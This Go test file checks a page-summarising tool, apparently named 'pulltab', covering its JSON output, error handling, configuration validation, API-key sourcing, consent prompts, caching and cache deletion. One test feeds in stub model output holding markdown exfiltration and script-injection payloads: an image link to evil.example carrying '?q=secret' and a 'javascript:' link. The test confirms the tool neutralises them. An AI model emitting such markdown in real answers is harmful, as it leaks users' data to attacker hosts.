package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"

	"pulltab/internal/chattest"
	"pulltab/internal/config"
	"pulltab/internal/store"
	"pulltab/internal/summarize"
)

// home creates a home folder with a configured model.
func home(t *testing.T, model config.Model) string {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("HOME", dir)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	if err := os.MkdirAll(folders().Config, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := folders().WriteModel(model); err != nil {
		t.Fatal(err)
	}
	return dir
}

// write makes a file in dir and returns its path.
func write(t *testing.T, dir, name, text string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// pulltab runs a command in this process.
func pulltab(stdin string, args ...string) (status int, out, messages string) {
	var o, e bytes.Buffer
	status = run(args, streams{strings.NewReader(stdin), &o, &e})
	return status, o.String(), e.String()
}

func TestJSONIsAnArrayOfAddressAndSummary(t *testing.T) {
	service := chattest.Start(t)
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
	marked := write(t, dir, "stored.md", "---\ntitle: Kiln\nurl: https://example.com/kiln?a=b&c=d\nsource: blocks\n---\n\n# Kiln\n\nThe kiln is <hot>. It cools.\n")
	raw := write(t, dir, "page.html", bread)
	status, out, messages := pulltab("Butter is made of milk. It melts.\n", "summarize", "--json", marked, raw, "-")
	want := `[
  {
    "url": "https://example.com/kiln?a=b&c=d",
    "summary": "# Kiln The kiln is <hot>."
  },
  {
    "url": "` + raw + `",
    "summary": "# Bread Bread is baked from flour, water and salt, and it wants patience above all, as every baker knows."
  },
  {
    "url": "-",
    "summary": "Butter is made of milk."
  }
]
`
	if status != exitDone || out != want {
		t.Errorf("status %d\n%s%s", status, out, messages)
	}
	for _, r := range service.Requests() {
		if strings.Contains(r.User, "<p>") || strings.Contains(r.User, "source: blocks") {
			t.Errorf("the model got HTML or front matter: %q", r.User)
		}
	}
}

func TestOneFailedPageDoesNotStopTheOthers(t *testing.T) {
	service := chattest.Start(t)
	service.Fault = func(_ int, r chattest.Request) chattest.Fault {
		if strings.Contains(r.User, "cursed") {
			return chattest.Refuse(400, "I will not", "")
		}
		return nil
	}
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
	files := []string{
		write(t, dir, "a.md", "Bread wants patience.\n"), filepath.Join(dir, "none.md"), write(t, dir, "empty.html", "<!doctype html><p> </p>"),
		write(t, dir, "cursed.md", "---\nurl: https://example.com/cursed\n---\nA cursed page.\n"), write(t, dir, "b.md", "Butter melts.\n"),
	}
	status, out, messages := pulltab("", append([]string{"summarize", "--json", "--details"}, files...)...)
	if status != exitFail {
		t.Errorf("status %d", status)
	}
	var got []struct{ URL, Summary, Error string }
	if err := json.Unmarshal([]byte(out), &got); err != nil || len(got) != 5 {
		t.Fatalf("%v\n%s", err, out)
	}
	for i, e := range got {
		if wrong := i == 1 || i == 2 || i == 3; wrong != (e.Error != "") || wrong == (e.Summary != "") {
			t.Errorf("page %d: %+v", i, e)
		}
	}
	for _, line := range []string{"Skipped " + files[1] + ": read page: ", "Skipped " + files[2] + ": ", "Skipped https://example.com/cursed: " + "http://127.0.0.1:", "3 of 5 pages could not be summarised"} {
		if !strings.Contains(messages, line) {
			t.Errorf("%q is missing in\n%s", line, messages)
		}
	}
	// The digest lists them too, since it may be the only output that is kept.
	_, out, messages = pulltab("", append([]string{"summarize"}, files...)...)
	_, skipped, _ := strings.Cut(out, "\n## Skipped\n\n")
	list := strings.SplitAfter(strings.TrimSpace(skipped), "\n")
	if len(list) != 3 || !strings.HasPrefix(list[0], "- "+summarize.EscapeMarkdown(files[1])+": read page: ") || !strings.HasPrefix(list[2], "- `https://example.com/cursed`: ") {
		t.Errorf("skipped: %q in\n%s", list, out)
	}
	if !strings.Contains(messages, "1/5 "+files[0]+": 1 chunk, 1 call\n") {
		t.Errorf("the first page is told of otherwise in\n%s", messages)
	}
}

func TestUnreachableServiceEndsTheRun(t *testing.T) {
	service := chattest.Start(t)
	service.Fault = func(int, chattest.Request) chattest.Fault { return chattest.Refuse(401, "no", "") }
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, Parallel: 1})
	args := []string{"summarize"}
	for i := range 40 {
		args = append(args, write(t, dir, fmt.Sprintf("%d.md", i), fmt.Sprintf("Page %d.\n", i)))
	}
	status, _, messages := pulltab("", args...)
	if n := len(service.Requests()); status != exitFail || n != 1 {
		t.Errorf("status %d, %d calls", status, n)
	}
	if n := strings.Count(messages, "rejected the API key"); n != 40 {
		t.Errorf("%d pages are told of:\n%s", n, messages)
	}
}

func TestDigestStatesHowItWasMade(t *testing.T) {
	service := chattest.Start(t)
	service.Answer = func(chattest.Request) string {
		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold** It is about dough."
	}
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 200})
	long := write(t, dir, "long.md", "---\ntitle: \"[Long](https://evil.example)\"\nurl: https://example.com/long\n---\n"+strings.Repeat("A line about dough that goes on and on for a while.\n\n", 40))
	status, out, messages := pulltab("", "summarize", long, write(t, dir, "a.md", "Bread.\n"))
	if status != exitDone {
		t.Fatal(messages)
	}
	head := regexp.MustCompile(`^---
model: test-model-1
provider: http://127\.0\.0\.1:\d+/v1
temperature: 0\.2
encoding: o200k_base
prompt_map: map\.v1 [0-9a-f]{12}
prompt_reduce: reduce\.v1 [0-9a-f]{12}
prompt_single: single\.v1 [0-9a-f]{12}
pages: 2
skipped: 0
chunks: \d+
rounds: \d+
calls: \d+
cut: 0
doubts: \d+
---
`)
	if !head.MatchString(out) {
		t.Errorf("the head is\n%s", out)
	}
	// Text of the model and the page is not active: links lead to footnotes only.
	var html bytes.Buffer
	reader := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote))
	if err := reader.Convert([]byte(head.ReplaceAllString(out, "")), &html); err != nil {
		t.Fatal(err)
	}
	links := regexp.MustCompile(`<a href="#fn[^>]*>`).ReplaceAllString(html.String(), "")
	if strings.Contains(links, "<a ") || strings.Contains(links, "<img") || strings.Contains(links, "<h1") || strings.Count(links, "<h2") != 2 {
		t.Errorf("active content in\n%s", links)
	}
	if !strings.Contains(links, "https://example.com/long") || !strings.Contains(links, "A line about dough") {
		t.Errorf("address or sources are missing in\n%s", links)
	}
}

func TestMissingModelErrorShowsTheConfiguration(t *testing.T) {
	home(t, config.Model{})
	path := filepath.Join(folders().Config, config.ModelFile)
	os.Remove(path)
	status, out, messages := pulltab("Bread.", "summarize")
	if status != exitFail || out != "" || !strings.Contains(messages, path) {
		t.Fatalf("status %d\n%s", status, messages)
	}
	// The examples are valid configurations.
	examples := regexp.MustCompile(`(?s)\{\n.*?\n  \}`).FindAllString(messages, -1)
	if len(examples) != 2 {
		t.Fatalf("%d examples in\n%s", len(examples), messages)
	}
	for _, e := range examples {
		write(t, folders().Config, config.ModelFile, e)
		if c, err := folders().Model(); err != nil || c.Model == "" || c.BaseURL == "" {
			t.Errorf("%+v, %v", c, err)
		}
	}
}

func TestConfigurationIsDecodedStrictly(t *testing.T) {
	home(t, config.Model{})
	for text, says := range map[string]string{
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","timeout":5}`:                         `unknown field "timeout"`,
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","parallel":-1}`:                       "negative",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","parallel":99}`:                       "over 32",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyEnv":"A","keyCommand":["b"]}`:     "not both",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyEnv":"PULLTAB_TEST_NO_SUCH_KEY"}`: "is empty; set it",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyCommand":["false"]}`:              "printed no key",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","encoding":"klingon"}`:                "estimate",
		`{"baseUrl":"http://127.0.0.1/v1","model":"m","contextTokens":1000}`:                "lower chunkTokens",
		`{"baseUrl":"http://127.0.0.1/v1"}`:                                                 "no model is named",
		`{"baseUrl":"127.0.0.1","model":"m"}`:                                               "is not an address",
		`not JSON`:                                                                          "model.json: invalid character",
	} {
		write(t, folders().Config, config.ModelFile, text)
		if status, out, messages := pulltab("Bread.", "summarize"); status != exitFail || out != "" || !strings.Contains(messages, says) {
			t.Errorf("%s: status %d, %s", text, status, messages)
		}
	}
	if err := os.Chmod(filepath.Join(folders().Config, config.ModelFile), 0o666); err != nil {
		t.Fatal(err)
	}
	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "only you can write") {
		t.Errorf("a file that anybody can write: %s", messages)
	}
}

func TestTheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
	service := chattest.Start(t)
	t.Setenv("PULLTAB_TEST_KEY", "sk-from-env")
	for want, model := range map[string]config.Model{
		"sk-from-env":     {KeyEnv: "PULLTAB_TEST_KEY"},
		"sk-from-command": {KeyCommand: []string{"echo", "sk-from-command"}},
		"":                {},
	} {
		model.BaseURL, model.Model = service.BaseURL(), chattest.Model
		home(t, model)
		if status, out, messages := pulltab("Bread.", "summarize"); status != exitDone || want != "" && strings.Contains(out+messages, want) {
			t.Errorf("status %d\n%s%s", status, out, messages)
		}
		asked := service.Requests()
		if got := asked[len(asked)-1].Key; got != want {
			t.Errorf("key %q, want %q", got, want)
		}
	}
}

func TestConsentIsRequestedOnceAndStored(t *testing.T) {
	home(t, config.Model{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
	status, _, messages := pulltab("Bread.", "summarize")
	if status != exitFail || !strings.Contains(messages, "would leave this computer for https://models.invalid; to allow it, run: pulltab summarize --allow https://models.invalid\n") {
		t.Fatalf("status %d: %s", status, messages)
	}
	if status, _, _ := pulltab("", "summarize", "--allow", "models.invalid"); status != exitUsage {
		t.Errorf("status %d", status)
	}
	if status, out, messages := pulltab("", "summarize", "--allow", "https://MODELS.invalid/v1"); status != exitDone || out+messages != "" {
		t.Errorf("status %d: %s%s", status, out, messages)
	}
	info, err := os.Stat(filepath.Join(folders().Config, config.ModelFile))
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	// The next step is the key, which is requested only now.
	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "printed no key") {
		t.Error(messages)
	}
}

func TestRestartedRunRepeatsNoFinishedCall(t *testing.T) {
	program := program(t)
	service := chattest.Start(t)
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
	args := []string{"summarize", "--json"}
	for i := range 40 {
		var text strings.Builder
		for j := range 30 + i*4 {
			fmt.Fprintf(&text, "Sentence %d of page %d is about dough. ", j, i)
		}
		args = append(args, write(t, dir, fmt.Sprintf("%d.md", i), text.String()+"\n"))
	}
	const held = 60 // from here on no call finishes; two are under way at a time
	var dying atomic.Bool
	dying.Store(true)
	waiting := make(chan struct{}, 2)
	service.SetFault(func(n int, _ chattest.Request) chattest.Fault {
		if n < held || !dying.Load() {
			return nil
		}
		waiting <- struct{}{}
		return chattest.NoAnswer
	})
	victim := exec.Command(program, args...)
	victim.Stdout, victim.Stderr = io.Discard, io.Discard
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	<-waiting
	<-waiting
	if err := victim.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	victim.Wait()
	dying.Store(false)
	first := service.Requests()
	finished := map[string]bool{}
	for _, r := range first[:held-1] {
		finished[r.User] = true
	}

	out := output(t, exec.Command(program, args...), "")
	var pages []struct{ URL, Summary string }
	if err := json.Unmarshal(out, &pages); err != nil || len(pages) != 40 {
		t.Fatalf("%d pages, %v", len(pages), err)
	}
	second := service.Requests()[len(first):]
	for _, r := range second {
		if finished[r.User] {
			t.Errorf("asked again: %.60q", r.User)
		}
	}
	if len(second) == 0 || len(finished) != held-1 {
		t.Errorf("%d calls before, %d after", len(finished), len(second))
	}
	// Forget with a site deletes all answers, since they do not name their pages;
	// with a time it deletes the older ones.
	kept := func() int {
		files, _ := filepath.Glob(filepath.Join(dir, "cache", "pulltab", "answers", "*"))
		return len(files)
	}
	before := kept()
	if status, _, messages := pulltab("", "forget", "--before", "2000-01-01"); status != exitDone || kept() != before || before == 0 {
		t.Errorf("%d answers of %d are left: %s", kept(), before, messages)
	}
	if status, _, messages := pulltab("", "forget", "--site", "example.com"); status != exitDone || kept() != 0 {
		t.Errorf("%d answers are left: %s", kept(), messages)
	}
	if err := os.MkdirAll(filepath.Join(dir, "cache", "pulltab", "answers"), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, dir, "cache/pulltab/answers/k.answer.json", "{}")
	if status, _, messages := pulltab("", "forget", "--all"); status != exitDone {
		t.Error(messages)
	}
	if left, err := filepath.Glob(filepath.Join(dir, "cache", "pulltab", "*")); err != nil || len(left) != 0 {
		t.Errorf("left: %v, %v", left, err)
	}
}

func TestDisabledCacheStoresNoAnswer(t *testing.T) {
	service := chattest.Start(t)
	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
	for range 2 {
		if status, _, messages := pulltab("Bread wants patience.", "summarize"); status != exitDone {
			t.Fatal(messages)
		}
	}
	var files []string
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		files = append(files, filepath.Base(path))
		return err
	})
	slices.Sort(files)
	if len(service.Requests()) != 2 || slices.Contains(files, "cache") {
		t.Errorf("%d calls, files %v", len(service.Requests()), files)
	}
}

func TestSummariesOfSavedPages(t *testing.T) {
	service := chattest.Start(t)
	home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
	t.Setenv(envData, t.TempDir())
	const url = "https://example.com/kiln"
	args := []string{"summarize", "--json", "--from-cache", url}
	if status, out, messages := pulltab("", args...); status != exitFail || out != "[]\n" || !strings.Contains(messages, "Skipped "+url+": this page is not saved, since saving pages is off") {
		t.Errorf("status %d\n%s%s", status, out, messages)
	}
	_, err := queryStore(io.Discard, func(db *store.Store) (store.Clip, error) {
		if err := db.SetPreferences(store.Preferences{Pages: true}); err != nil {
			return store.Clip{}, err
		}
		return db.Save(store.Clip{Address: url, Title: "The kiln", Markdown: "---\ntitle: The kiln\n---\n\nThe kiln is hot. It cools.\n"}, nil)
	})
	if err != nil {
		t.Fatal(err)
	}
	if status, out, messages := pulltab("", args...); status != exitDone || !strings.Contains(out, `"summary": "The kiln is hot."`) {
		t.Errorf("status %d\n%s%s", status, out, messages)
	}
	if user := service.Requests()[0].User; !strings.HasPrefix(user, "Title: The kiln\n<page>\nThe kiln is hot.") {
		t.Errorf("asked %q", user)
	}
	if _, _, messages := pulltab("", append(args, "https://example.com/other")...); !strings.Contains(messages, "Skipped https://example.com/other: this page is not saved;") {
		t.Error(messages)
	}
	if status, _, _ := pulltab("", "summarize", "--from-cache"); status != exitUsage {
		t.Errorf("status %d without an address", status)
	}
}
